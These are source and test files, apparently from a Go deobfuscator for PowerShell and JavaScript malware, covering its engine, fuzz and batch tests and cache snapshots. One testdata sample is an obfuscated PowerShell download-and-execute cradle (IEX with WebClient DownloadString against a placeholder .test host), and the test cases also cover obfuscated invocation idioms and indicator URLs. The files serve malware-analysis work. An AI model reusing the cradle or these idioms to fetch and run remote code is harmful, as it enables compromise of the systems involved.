		}
	}
	cur := doc.Text()
	// Final safety net: never emit something unparseable. Drawn from
	// the cache — when no pass changed the text this is the up-front
	// parse again, for free.
	if !doc.Valid() {
		if len(res.Layers) > 0 {
			cur = res.Layers[len(res.Layers)-1]
		} else {
			cur = src
		}
	}
	res.Script = cur
	res.PassTrace = runner.Trace().Stats()
	if pc.Eval != nil {
		res.Stats.EvalCacheHits = pc.Eval.Hits
		res.Stats.EvalCacheMisses = pc.Eval.Misses
		res.Stats.EvalCacheSkips = pc.Eval.Skips
	}
	res.Stats.Duration = time.Since(start)
	if envErr := env.Check(); envErr != nil {
		res.Stats.TimedOut = true
		return res, envErr
	}
	return res, nil
}
