package core

import (
	"strings"
	"testing"
)

// TestEngineIdioms runs the deobfuscator over the invocation idioms
// wild samples use; the engine must surface the payload in clear text.
func TestEngineIdioms(t *testing.T) {
	tests := []struct{ src, want string }{
		{". ($pshome[4]+$pshome[30]+'x') 'write-host i1'", "write-host i1"},
		{"('write-host i2') |& ($env:comspec[4,24,25] -join '')", "write-host i2"},
		{"&((gv '*mdr*').name[3,11,2] -join '') 'write-host i3'", "write-host i3"},
		{"&('XEI'[2..0] -join '') 'write-host i4'", "write-host i4"},
		{"&('{1}{0}' -f 'ex','i') 'write-host i5'", "write-host i5"},
		{"$c = 'write-'+'host i6'\niex $c", "write-host i6"},
		// Nested: bxor layer hiding a base64 layer.
		{
			"IEX (('2,14,19,107,99,16,31,46,51,63,101,14,37,40,36,47,34,37,44,22,113,113,30,31,13,115,101,12,46,63,24,63,57,34,37,44,99,16,8,36,37,61,46,57,63,22,113,113,13,57,36,38,9,42,56,46,125,127,24,63,57,34,37,44,99,108,47,120,1,59,47,12,30,63,42,12,114,49,47,8,9,59,5,60,118,118,108,98,98,98' -split ',' | % { [char]([int]$_ -bxor 75) }) -join '')",
			"write-host i7",
		},
	}
	d := New(Options{})
	for _, tt := range tests {
		res, err := d.Deobfuscate(tt.src)
		if err != nil {
			t.Errorf("Deobfuscate(%q): %v", tt.src, err)
			continue
		}
		if !strings.Contains(strings.ToLower(res.Script), tt.want) {
			t.Errorf("Deobfuscate(%q) = %q, want %q", tt.src, res.Script, tt.want)
		}
	}
}
