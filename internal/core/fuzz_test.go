package core

import (
	"context"
	"testing"
	"time"
)

// Native fuzz targets. `go test` runs the seed corpus; `go test -fuzz`
// explores further. The invariants: no panics, extents in bounds, and
// the deobfuscator's output parses whenever its input did.

func fuzzSeeds(f *testing.F) {
	seeds := []string{
		"write-host hello",
		"i`ex ('a'+'b')",
		`IEX (("{1}{0}" -f 'llo','he'))`,
		"powershell -e aABpAA==",
		"$a = 'x'; if ($a) { $a } else { exit }",
		"( '1,2' -split ',' | % { [char]([int]$_+64) }) -join ''",
		"\"expand $($x) and $env:PATH\"",
		"@{k='v'}['k']",
		"@'\nhere\n'@",
		"function f($p=3) { $p * 2 }",
		"&('ie'+'x') 'write-host deep'",
		"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))",
		"${weird name} = 1",
		"$x[1..3] -join ''",
		"try { throw 'x' } catch { $_ } finally { 1 }",
	}
	for _, s := range seeds {
		f.Add(s)
	}
}

func FuzzDeobfuscate(f *testing.F) {
	fuzzSeeds(f)
	d := New(Options{MaxIterations: 3, StepBudget: 50_000})
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		res, err := d.Deobfuscate(src)
		if err != nil {
			return // invalid input is fine
		}
		if perr := psParseErr(res.Script); perr != nil {
			t.Fatalf("output does not parse for input %q:\n%s\n%v", src, res.Script, perr)
		}
	})
}

// FuzzDeobfuscateEnvelope drives the whole pipeline under a tight
// execution envelope (wall-clock deadline, small step/output budgets)
// and asserts the envelope contract: every run finishes within 2x the
// deadline with either a result or a typed taxonomy error, and no
// panic escapes (a panic fails the fuzz run outright).
func FuzzDeobfuscateEnvelope(f *testing.F) {
	fuzzSeeds(f)
	f.Add("$x = 'a'*100000000; $x")
	f.Add("$v = $(while($true){1}); $v")
	f.Add("((((((((((1))))))))))")
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			return
		}
		const deadline = 500 * time.Millisecond
		ctx, cancel := context.WithTimeout(context.Background(), deadline)
		defer cancel()
		d := New(Options{
			MaxIterations:  3,
			StepBudget:     50_000,
			MaxOutputBytes: 1 << 20,
		})
		start := time.Now()
		res, err := d.DeobfuscateContext(ctx, src)
		if elapsed := time.Since(start); elapsed > envelopeSlack*deadline {
			t.Fatalf("took %v, over %dx the %v deadline for %q",
				elapsed, envelopeSlack, deadline, src)
		}
		if !taxonomyOK(err) {
			t.Fatalf("error outside taxonomy for %q: %v", src, err)
		}
		if err == nil && res == nil {
			t.Fatalf("nil result with nil error for %q", src)
		}
	})
}
