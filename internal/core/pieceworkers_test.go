package core

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// workerEquivalenceInputs collects every pinned input across both
// frontends: the PowerShell equivalence set (testdata shapes plus the
// deterministic corpus) and the JavaScript golden corpus.
func workerEquivalenceInputs(t *testing.T) map[string]BatchInput {
	t.Helper()
	inputs := make(map[string]BatchInput)
	for name, src := range equivalenceInputs(t) {
		inputs[name] = BatchInput{Name: name, Script: src}
	}
	files, err := filepath.Glob(filepath.Join("..", "jsfront", "testdata", "*.js"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 10 {
		t.Fatalf("JS corpus has %d samples, want >= 10", len(files))
	}
	for _, f := range files {
		raw, rerr := os.ReadFile(f)
		if rerr != nil {
			t.Fatal(rerr)
		}
		name := "js_" + strings.TrimSuffix(filepath.Base(f), ".js")
		inputs[name] = BatchInput{Name: name, Script: string(raw), Lang: "javascript"}
	}
	return inputs
}

// TestPieceWorkersEquivalence asserts the engine's output is independent
// of the piece-worker count and of the splice fast path: sequential
// evaluation, a four-worker pool, and the full re-render fallback must
// all produce byte-identical scripts on every pinned input. This is the
// safety net for the parallel-recovery and incremental-splice work —
// both are pure performance features and must never change a byte.
func TestPieceWorkersEquivalence(t *testing.T) {
	configs := []struct {
		label string
		opts  Options
	}{
		{"sequential", Options{PieceWorkers: 1}},
		{"parallel4", Options{PieceWorkers: 4}},
		{"nosplice", Options{PieceWorkers: 1, DisableSplice: true}},
		{"parallel4_nosplice", Options{PieceWorkers: 4, DisableSplice: true}},
	}
	engines := make([]*Deobfuscator, len(configs))
	for i, c := range configs {
		opts := c.opts
		engines[i] = New(opts)
	}
	for name, in := range workerEquivalenceInputs(t) {
		name, in := name, in
		t.Run(name, func(t *testing.T) {
			var base string
			for i, c := range configs {
				res, err := engines[i].DeobfuscateSharedLang(context.Background(), in.Script, in.Lang, nil, nil)
				if err != nil {
					t.Fatalf("%s: Deobfuscate: %v", c.label, err)
				}
				if i == 0 {
					base = res.Script
					continue
				}
				if res.Script != base {
					t.Errorf("%s output diverged from %s\n--- %s ---\n%s\n--- %s ---\n%s",
						c.label, configs[0].label, c.label, res.Script, configs[0].label, base)
				}
			}
		})
	}
}

// TestBatchPieceWorkerClamp drives a batch whose jobs × piece-workers
// product overcommits GOMAXPROCS, forcing the clamp path, and asserts
// per-script outputs still match a plain sequential run. Run under
// -race this also exercises the worker pools' synchronization.
func TestBatchPieceWorkerClamp(t *testing.T) {
	inputs := make([]BatchInput, 0, 8)
	for name, in := range workerEquivalenceInputs(t) {
		if strings.HasPrefix(name, "corpus_0") || strings.HasPrefix(name, "js_0") {
			inputs = append(inputs, in)
		}
	}
	if len(inputs) < 6 {
		t.Fatalf("selected %d batch inputs, want >= 6", len(inputs))
	}
	// Oversized on any machine: the clamp must bring the per-script
	// pool down so jobs × piece-workers stays within GOMAXPROCS.
	d := New(Options{Jobs: 4, PieceWorkers: 64})
	results := d.DeobfuscateBatch(context.Background(), inputs)

	seq := New(Options{PieceWorkers: 1})
	for i, r := range results {
		if r.Err != nil {
			t.Fatalf("%s: batch error: %v", inputs[i].Name, r.Err)
		}
		want, err := seq.DeobfuscateSharedLang(context.Background(), inputs[i].Script, inputs[i].Lang, nil, nil)
		if err != nil {
			t.Fatalf("%s: sequential run: %v", inputs[i].Name, err)
		}
		if r.Result.Script != want.Script {
			t.Errorf("%s: batch output diverged from sequential run", inputs[i].Name)
		}
	}
}
