$kqz7 = 'http://forma'
$wj3x = 't.test/final.ps1'
$full = $kqz7 + $wj3x
I`eX (("{2}{1}{0}" -f "ing($full)", "nloadstr", "(New-Object Net.WebClient).dow"))