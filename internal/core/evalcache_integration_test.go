package core

import (
	"context"
	"fmt"
	"sync"
	"testing"
)

// The evalText-level cache integration tests live with the PowerShell
// frontend (internal/psfront), which owns astState; the tests here
// exercise the memoization layer through the driver's public surface.

// TestDeobfuscateCacheOnOffEquivalence is the semantic guard for the
// memoization layer: over every pinned input (testdata malware shapes
// plus the deterministic corpus) the engine's full output — final
// script, per-iteration layers, and recovery counters — is byte-
// identical with the evaluation cache enabled and disabled.
func TestDeobfuscateCacheOnOffEquivalence(t *testing.T) {
	inputs := equivalenceInputs(t)
	on := New(Options{})
	off := New(Options{DisableEvalCache: true})
	for name, src := range inputs {
		rOn, errOn := on.Deobfuscate(src)
		rOff, errOff := off.Deobfuscate(src)
		if (errOn == nil) != (errOff == nil) {
			t.Errorf("%s: error divergence on=%v off=%v", name, errOn, errOff)
			continue
		}
		if errOn != nil {
			continue
		}
		if rOn.Script != rOff.Script {
			t.Errorf("%s: cache-on output differs from cache-off", name)
		}
		if len(rOn.Layers) != len(rOff.Layers) {
			t.Errorf("%s: layer count %d != %d", name, len(rOn.Layers), len(rOff.Layers))
		}
		if rOn.Stats.PiecesRecovered != rOff.Stats.PiecesRecovered ||
			rOn.Stats.Iterations != rOff.Stats.Iterations {
			t.Errorf("%s: stats diverge: on %d pieces/%d iters, off %d pieces/%d iters",
				name, rOn.Stats.PiecesRecovered, rOn.Stats.Iterations,
				rOff.Stats.PiecesRecovered, rOff.Stats.Iterations)
		}
		if rOff.Stats.EvalCacheHits != 0 || rOff.Stats.EvalCacheMisses != 0 {
			t.Errorf("%s: disabled cache recorded traffic: %d hits / %d misses",
				name, rOff.Stats.EvalCacheHits, rOff.Stats.EvalCacheMisses)
		}
	}
}

// TestSharedEvalCacheConcurrentRuns drives many concurrent runs through
// one shared EvalCache (the batch-driver topology) and checks every
// worker still produces the sequential baseline output. Run under
// -race this is the data-race guard for the shared cache.
func TestSharedEvalCacheConcurrentRuns(t *testing.T) {
	// A corpus slice with duplicates so cross-worker hits actually occur.
	base := equivalenceCorpus()[:6]
	var srcs []string
	for i := 0; i < 3; i++ {
		for _, s := range base {
			srcs = append(srcs, s.Source)
		}
	}
	d := New(Options{})
	want := make([]string, len(srcs))
	for i, src := range srcs {
		res, err := d.Deobfuscate(src)
		if err != nil {
			t.Fatalf("baseline %d: %v", i, err)
		}
		want[i] = res.Script
	}

	shared := NewEvalCache(0, 0)
	var wg sync.WaitGroup
	errs := make(chan error, len(srcs)*4)
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i, src := range srcs {
				res, err := d.DeobfuscateShared(context.Background(), src, nil, shared)
				if err != nil {
					errs <- fmt.Errorf("script %d: %v", i, err)
					continue
				}
				if res.Script != want[i] {
					errs <- fmt.Errorf("script %d: shared-cache output diverges from baseline", i)
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	st := shared.Stats()
	if st.Hits == 0 {
		t.Errorf("duplicated corpus produced no cross-run hits: %+v", st)
	}
}
