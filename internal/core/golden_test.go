package core

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
)

// TestGoldenSamples runs the engine on testdata samples modeled after
// real malware delivery patterns and checks that the indicators each
// pattern hides are exposed in clear text, with behaviour preserved.
func TestGoldenSamples(t *testing.T) {
	cases := []struct {
		file string
		want []string
	}{
		{"emotet_style.ps1", []string{"http://emotet1.test/gate.php", "http://emotet2.test/gate.php"}},
		{"trickbot_style.ps1", []string{"http://trick.test/mod.exe", "downloadfile"}},
		{"ursnif_style.ps1", []string{"http://ursnif.test/s.ps1", "winlogin.ps1", "powershell -w hidden"}},
		{"formatsplit_style.ps1", []string{"'http://format.test/final.ps1'", "downloadstring"}},
		{"bxor_style.ps1", []string{"http://bxor.test/c2", "invoke-webrequest"}},
	}
	d := New(Options{})
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			raw, err := os.ReadFile(filepath.Join("testdata", tc.file))
			if err != nil {
				t.Fatal(err)
			}
			src := string(raw)
			res, err := d.Deobfuscate(src)
			if err != nil {
				t.Fatalf("Deobfuscate: %v", err)
			}
			lower := strings.ToLower(res.Script)
			for _, want := range tc.want {
				if !strings.Contains(lower, strings.ToLower(want)) {
					t.Errorf("missing %q in output:\n%s", want, res.Script)
				}
			}
			before := sandbox.Run(src, sandbox.Options{})
			after := sandbox.Run(res.Script, sandbox.Options{})
			if !sandbox.Consistent(before.Behavior, after.Behavior) {
				t.Errorf("behavior diverged:\nbefore %v\nafter  %v",
					before.Behavior.NetworkSet(), after.Behavior.NetworkSet())
			}
		})
	}
}
