package core

// Warm-restart cache persistence: gather the shared parse/eval caches
// into the pipeline snapshot format on the way down (graceful drain,
// periodic ticker) and re-derive them through the registered frontends
// on the way up. Only source texts are persisted — every artifact is
// recomputed by the current binary's parser/interpreter, so a snapshot
// written by one deploy is safe to load in the next even across parser
// changes, and a corrupt file degrades to a cold start.

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// NewParseCache returns a parse cache suitable for sharing across
// requests, the sibling of NewEvalCache. Non-positive bounds select
// the pipeline defaults.
func NewParseCache(maxEntries int, maxBytes int64) *pipeline.Cache {
	return pipeline.NewCache(maxEntries, maxBytes)
}

// snapshotEvalTimeout bounds the re-evaluation of one snapshot snippet
// at load time, so one pathological entry cannot stall startup.
const snapshotEvalTimeout = 500 * time.Millisecond

// SnapshotSaveStats describes one snapshot write.
type SnapshotSaveStats struct {
	// ParseEntries / EvalEntries count the records written per section.
	ParseEntries int
	EvalEntries  int
	// Bytes is the size of the written snapshot file.
	Bytes int64
}

// SnapshotLoadStats describes one snapshot load.
type SnapshotLoadStats struct {
	// ParseEntries / EvalEntries count the records present in the file.
	ParseEntries int
	EvalEntries  int
	// ParseLoaded / EvalLoaded count the records actually re-derived
	// into the caches (records for unregistered frontends, oversize
	// texts, or snippets that no longer evaluate purely are dropped).
	ParseLoaded int
	EvalLoaded  int
}

// SaveCacheSnapshot writes the current contents of the shared caches
// to path, atomically (temp file + rename). Either cache may be nil.
func SaveCacheSnapshot(path string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (SnapshotSaveStats, error) {
	var data pipeline.SnapshotData
	if cache != nil {
		data.Parse = cache.SnapshotTexts()
	}
	if evalCache != nil {
		data.Eval = evalCache.SnapshotSnippets()
	}
	stats := SnapshotSaveStats{ParseEntries: len(data.Parse), EvalEntries: len(data.Eval)}
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, filepath.Base(path)+".tmp-*")
	if err != nil {
		return stats, fmt.Errorf("core: snapshot temp file: %w", err)
	}
	tmpName := tmp.Name()
	if err := pipeline.EncodeSnapshot(tmp, data); err != nil {
		tmp.Close()
		os.Remove(tmpName)
		return stats, fmt.Errorf("core: snapshot encode: %w", err)
	}
	if info, err := tmp.Stat(); err == nil {
		stats.Bytes = info.Size()
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmpName)
		return stats, fmt.Errorf("core: snapshot close: %w", err)
	}
	if err := os.Rename(tmpName, path); err != nil {
		os.Remove(tmpName)
		return stats, fmt.Errorf("core: snapshot rename: %w", err)
	}
	return stats, nil
}

// LoadCacheSnapshot reads a snapshot from path and warms the given
// caches by re-deriving every record through its registered frontend:
// parse records are tokenized+parsed into the parse cache, eval
// records are re-evaluated (under a short per-snippet envelope) and
// inserted only when the evaluation is still pure and
// environment-independent. A missing file returns os.ErrNotExist; a
// corrupt or truncated file returns an error wrapping
// pipeline.ErrSnapshotCorrupt — in both cases the caches are left
// usable (cold or partially warmed), never poisoned. ctx cancelation
// stops the warm-up between records and returns ctx.Err().
func LoadCacheSnapshot(ctx context.Context, path string, cache *pipeline.Cache, evalCache *pipeline.EvalCache) (SnapshotLoadStats, error) {
	var stats SnapshotLoadStats
	f, err := os.Open(path)
	if err != nil {
		return stats, err
	}
	defer f.Close()
	data, err := pipeline.DecodeSnapshot(f)
	if err != nil {
		return stats, err
	}
	stats.ParseEntries = len(data.Parse)
	stats.EvalEntries = len(data.Eval)
	// Frontend lookups repeat heavily (few languages, many records);
	// memoize the registry answer, including the misses.
	frontends := make(map[string]frontend.Frontend)
	resolve := func(lang string) frontend.Frontend {
		fe, seen := frontends[lang]
		if !seen {
			fe, _ = frontend.Get(lang)
			frontends[lang] = fe
		}
		return fe
	}
	for _, e := range data.Parse {
		if ctx.Err() != nil {
			return stats, ctx.Err()
		}
		fe := resolve(e.Lang)
		if fe == nil {
			continue
		}
		if cache != nil && cache.Preload(fe, e.Text) {
			stats.ParseLoaded++
		}
	}
	for _, e := range data.Eval {
		if ctx.Err() != nil {
			return stats, ctx.Err()
		}
		fe := resolve(e.Lang)
		if fe == nil || !fe.Capabilities().Evaluate {
			continue
		}
		if evalCache == nil {
			continue
		}
		if loadEvalRecord(ctx, evalCache, fe, e.Text) {
			stats.EvalLoaded++
		}
	}
	return stats, nil
}

// loadEvalRecord re-evaluates one snapshot snippet and preloads the
// result when it is still safe to replay: the evaluation must succeed,
// report purity, and read no environment variables (the snapshot
// carries no binding environment to fingerprint against).
func loadEvalRecord(ctx context.Context, evalCache *pipeline.EvalCache, fe frontend.Frontend, snippet string) (loaded bool) {
	// A panicking frontend must not kill the warm-up; drop the record.
	defer func() {
		if recover() != nil {
			loaded = false
		}
	}()
	ectx, cancel := context.WithTimeout(ctx, snapshotEvalTimeout)
	defer cancel()
	res, err := fe.Evaluate(ectx, snippet, nil, frontend.EvalBudget{})
	if err != nil || !res.Pure || len(res.ReadVars) > 0 {
		return false
	}
	return evalCache.PreloadEval(fe, snippet, res.Values)
}

// IsSnapshotCorrupt reports whether err is the snapshot-corruption
// sentinel (as opposed to a missing file or I/O failure), for callers
// that want to log the two differently.
func IsSnapshotCorrupt(err error) bool {
	return errors.Is(err, pipeline.ErrSnapshotCorrupt)
}
