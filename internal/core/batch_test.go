package core

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
)

// TestBatchOrderAndAttribution asserts the batch driver returns one
// result per input, in input order, with names and indices echoing the
// inputs — regardless of worker count or completion order.
func TestBatchOrderAndAttribution(t *testing.T) {
	d := New(Options{Jobs: 3})
	var inputs []BatchInput
	for i := 0; i < 8; i++ {
		inputs = append(inputs, BatchInput{
			Name:   fmt.Sprintf("sample-%d", i),
			Script: fmt.Sprintf("IEX 'write-host payload%d'", i),
		})
	}
	results := d.DeobfuscateBatch(context.Background(), inputs)
	if len(results) != len(inputs) {
		t.Fatalf("got %d results for %d inputs", len(results), len(inputs))
	}
	for i, r := range results {
		if r.Index != i {
			t.Errorf("results[%d].Index = %d", i, r.Index)
		}
		if r.Name != inputs[i].Name {
			t.Errorf("results[%d].Name = %q, want %q", i, r.Name, inputs[i].Name)
		}
		if r.Err != nil {
			t.Errorf("results[%d].Err = %v", i, r.Err)
			continue
		}
		want := fmt.Sprintf("payload%d", i)
		if !strings.Contains(r.Result.Script, want) {
			t.Errorf("results[%d] script %q missing %q", i, r.Result.Script, want)
		}
	}
}

// TestBatchEnvelopeIsolation asserts a hostile script tripping its own
// per-script budget fails alone: its siblings still deobfuscate fully.
func TestBatchEnvelopeIsolation(t *testing.T) {
	// MaxOutputBytes is per run (per script), so the deeply nested
	// sample blows its own budget without touching the siblings'.
	d := New(Options{MaxOutputBytes: 1, Jobs: 2})
	inputs := []BatchInput{
		{Name: "ok-but-tiny", Script: "write-host hi"},
		{Name: "hostile", Script: "gci ."}, // alias expansion grows the layer
	}
	results := d.DeobfuscateBatch(context.Background(), inputs)
	if results[1].Err == nil {
		t.Error("hostile script should have violated its envelope")
	}
	// Now the inverse: generous budget, everything succeeds even when a
	// sibling failed in a previous batch (no cross-batch state).
	d2 := New(Options{Jobs: 2})
	inputs2 := []BatchInput{
		{Name: "a", Script: "IEX 'write-host first'"},
		{Name: "b", Script: "IEX 'write-host second'"},
	}
	for _, r := range d2.DeobfuscateBatch(context.Background(), inputs2) {
		if r.Err != nil {
			t.Errorf("%s: %v", r.Name, r.Err)
		}
	}
}

// TestBatchScriptTimeout asserts ScriptTimeout deadlines each script
// individually: an already-expired deadline fails every script with the
// deadline taxonomy error, not a pool-wide hang.
func TestBatchScriptTimeout(t *testing.T) {
	d := New(Options{ScriptTimeout: time.Nanosecond, Jobs: 2})
	inputs := []BatchInput{
		{Name: "x", Script: "IEX 'write-host x'"},
		{Name: "y", Script: "IEX 'write-host y'"},
	}
	results := d.DeobfuscateBatch(context.Background(), inputs)
	for _, r := range results {
		if r.Err == nil {
			t.Errorf("%s: want a deadline error", r.Name)
			continue
		}
		if !errors.Is(r.Err, ErrDeadline) && !errors.Is(r.Err, ErrCanceled) {
			t.Errorf("%s: err = %v, want deadline/canceled", r.Name, r.Err)
		}
	}
}

// TestBatchCancel asserts canceling the batch context marks unstarted
// scripts ErrCanceled instead of blocking.
func TestBatchCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel() // canceled before the pool starts feeding
	d := New(Options{Jobs: 1})
	inputs := []BatchInput{
		{Name: "a", Script: "write-host a"},
		{Name: "b", Script: "write-host b"},
	}
	results := d.DeobfuscateBatch(ctx, inputs)
	canceled := 0
	for _, r := range results {
		if errors.Is(r.Err, ErrCanceled) || errors.Is(r.Err, ErrDeadline) {
			canceled++
		}
	}
	if canceled == 0 {
		t.Errorf("no script observed the cancelation: %+v", results)
	}
}

// TestBatchEmpty asserts the zero-input edge case returns immediately.
func TestBatchEmpty(t *testing.T) {
	d := New(Options{})
	if got := d.DeobfuscateBatch(context.Background(), nil); len(got) != 0 {
		t.Errorf("got %d results for empty batch", len(got))
	}
}

// TestBatchSharedCacheEquivalence asserts scripts deobfuscated through
// the shared batch cache produce output identical to solo runs: the
// cache amortizes work, never changes results.
func TestBatchSharedCacheEquivalence(t *testing.T) {
	scripts := []string{
		"i`ex ('write-ho'+'st one')",
		"IEX 'IEX ''write-host two'''",
		"$a = 'three'; write-host $a",
		// Duplicate of the first: exercises cross-script cache hits.
		"i`ex ('write-ho'+'st one')",
	}
	solo := New(Options{})
	var want []string
	for _, s := range scripts {
		res, err := solo.Deobfuscate(s)
		if err != nil {
			t.Fatal(err)
		}
		want = append(want, res.Script)
	}
	batch := New(Options{Jobs: 4})
	inputs := make([]BatchInput, len(scripts))
	for i, s := range scripts {
		inputs[i] = BatchInput{Name: fmt.Sprintf("s%d", i), Script: s}
	}
	for i, r := range batch.DeobfuscateBatch(context.Background(), inputs) {
		if r.Err != nil {
			t.Fatalf("s%d: %v", i, r.Err)
		}
		if r.Result.Script != want[i] {
			t.Errorf("s%d: batch output diverged\nbatch: %q\nsolo:  %q", i, r.Result.Script, want[i])
		}
	}
}
