//go:build !race

package core

// envelopeSlack is the multiple of the deadline within which a hostile
// run must return. The contract is 2x wall clock.
const envelopeSlack = 2
