package core

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"

	// The core driver registers no languages itself; tests exercise it
	// the way embedders do, with the standard frontends registered.
	_ "github.com/invoke-deobfuscation/invokedeob/internal/frontends"
)

// psParseErr parses src under the registered PowerShell frontend,
// letting driver-level tests assert "output still parses" without a
// direct dependency on the PowerShell parser packages.
func psParseErr(src string) error {
	fe, err := frontend.Get("powershell")
	if err != nil {
		return err
	}
	_, err = fe.Parse(src)
	return err
}
