package core

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// TestCacheSnapshotRoundTrip saves a populated parse+eval cache pair
// and reloads it into fresh caches through the registered frontends,
// asserting the warm entries serve hits without re-deriving.
func TestCacheSnapshotRoundTrip(t *testing.T) {
	ps, err := frontend.Get("powershell")
	if err != nil {
		t.Fatal(err)
	}
	js, err := frontend.Get("javascript")
	if err != nil {
		t.Fatal(err)
	}

	cache := NewParseCache(0, 0)
	evalCache := NewEvalCache(0, 0)
	parseTexts := []struct {
		fe  frontend.Frontend
		src string
	}{
		{ps, "Write-Host ('a'+'b')"},
		{ps, "$x = 1; Write-Host $x"},
		{js, "var s = 'hel' + 'lo';"},
	}
	for _, pt := range parseTexts {
		if _, err := cache.Parse(pt.fe, pt.src); err != nil {
			t.Fatalf("seed parse %q: %v", pt.src, err)
		}
	}
	const snippet = "'de' + 'obfuscated'"
	res, err := ps.Evaluate(context.Background(), snippet, nil, frontend.EvalBudget{})
	if err != nil || !res.Pure {
		t.Fatalf("seed eval: err=%v pure=%v", err, res.Pure)
	}
	evalCache.View(ps).Insert(snippet, nil, res.Values)

	path := filepath.Join(t.TempDir(), "caches.snap")
	saved, err := SaveCacheSnapshot(path, cache, evalCache)
	if err != nil {
		t.Fatal(err)
	}
	if saved.ParseEntries != len(parseTexts) || saved.EvalEntries != 1 {
		t.Fatalf("save stats = %+v, want %d parse / 1 eval", saved, len(parseTexts))
	}
	if saved.Bytes <= 0 {
		t.Errorf("save stats report %d bytes", saved.Bytes)
	}

	freshCache := NewParseCache(0, 0)
	freshEval := NewEvalCache(0, 0)
	loaded, err := LoadCacheSnapshot(context.Background(), path, freshCache, freshEval)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.ParseLoaded != len(parseTexts) || loaded.EvalLoaded != 1 {
		t.Fatalf("load stats = %+v, want %d parse / 1 eval warmed", loaded, len(parseTexts))
	}

	// Every reloaded entry must serve as a warm hit.
	for _, pt := range parseTexts {
		if _, err := freshCache.Parse(pt.fe, pt.src); err != nil {
			t.Fatalf("warm parse %q: %v", pt.src, err)
		}
	}
	st := freshCache.Stats()
	if st.Misses != 0 || st.WarmHits != int64(len(parseTexts)) {
		t.Errorf("warm parse stats = %+v, want 0 misses / %d warm hits", st, len(parseTexts))
	}
	out, ok := freshEval.View(ps).Lookup(snippet, func(string) (string, bool) { return "", false })
	if !ok {
		t.Fatal("reloaded eval snippet missed")
	}
	if len(out) != len(res.Values) {
		t.Errorf("reloaded eval values = %v, want %v", out, res.Values)
	}
}

func TestLoadCacheSnapshotMissingFile(t *testing.T) {
	cache := NewParseCache(0, 0)
	_, err := LoadCacheSnapshot(context.Background(), filepath.Join(t.TempDir(), "nope.snap"), cache, nil)
	if !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("missing file: err = %v, want os.ErrNotExist", err)
	}
	if IsSnapshotCorrupt(err) {
		t.Error("missing file misclassified as corrupt")
	}
}

// TestLoadCacheSnapshotCorruptFile feeds garbage and a truncated valid
// snapshot to the loader: both must report corruption, leave the
// caches usable, and never panic — a corrupt snapshot is a cold start,
// not a crash.
func TestLoadCacheSnapshotCorruptFile(t *testing.T) {
	ps, err := frontend.Get("powershell")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()

	garbage := filepath.Join(dir, "garbage.snap")
	if err := os.WriteFile(garbage, []byte("definitely not a snapshot"), 0o644); err != nil {
		t.Fatal(err)
	}
	truncated := filepath.Join(dir, "truncated.snap")
	valid := filepath.Join(dir, "valid.snap")
	cache := NewParseCache(0, 0)
	if _, err := cache.Parse(ps, "Write-Host 'seed'"); err != nil {
		t.Fatal(err)
	}
	if _, err := SaveCacheSnapshot(valid, cache, nil); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(valid)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(truncated, b[:len(b)-5], 0o644); err != nil {
		t.Fatal(err)
	}

	for _, path := range []string{garbage, truncated} {
		fresh := NewParseCache(0, 0)
		_, err := LoadCacheSnapshot(context.Background(), path, fresh, nil)
		if !IsSnapshotCorrupt(err) {
			t.Errorf("%s: err = %v, want snapshot-corrupt sentinel", filepath.Base(path), err)
		}
		// The cache must remain fully usable after a failed load.
		if _, err := fresh.Parse(ps, "Write-Host 'after'"); err != nil {
			t.Errorf("%s: cache unusable after corrupt load: %v", filepath.Base(path), err)
		}
	}
}

// TestLoadCacheSnapshotSkipsUnknownLang: records for frontends not
// registered in this binary are dropped, not errors — snapshots are
// portable across builds with different language sets.
func TestLoadCacheSnapshotSkipsUnknownLang(t *testing.T) {
	path := filepath.Join(t.TempDir(), "mixed.snap")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	data := pipeline.SnapshotData{Parse: []pipeline.SnapshotEntry{
		{Lang: "powershell", Text: "Write-Host 'known'"},
		{Lang: "cobol", Text: "DISPLAY 'unknown'."},
	}}
	if err := pipeline.EncodeSnapshot(f, data); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	cache := NewParseCache(0, 0)
	stats, err := LoadCacheSnapshot(context.Background(), path, cache, nil)
	if err != nil {
		t.Fatal(err)
	}
	if stats.ParseEntries != 2 || stats.ParseLoaded != 1 {
		t.Errorf("load stats = %+v, want 2 present / 1 loaded", stats)
	}
}
