package core

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// Structured error taxonomy for envelope violations, re-exported from
// the shared limits package so callers can classify failures with
// errors.Is without importing internal/limits directly. The envelope
// itself lives in internal/frontend (frontend.Envelope), shared by the
// driver and every language frontend.
var (
	// ErrDeadline reports that the context deadline expired mid-run.
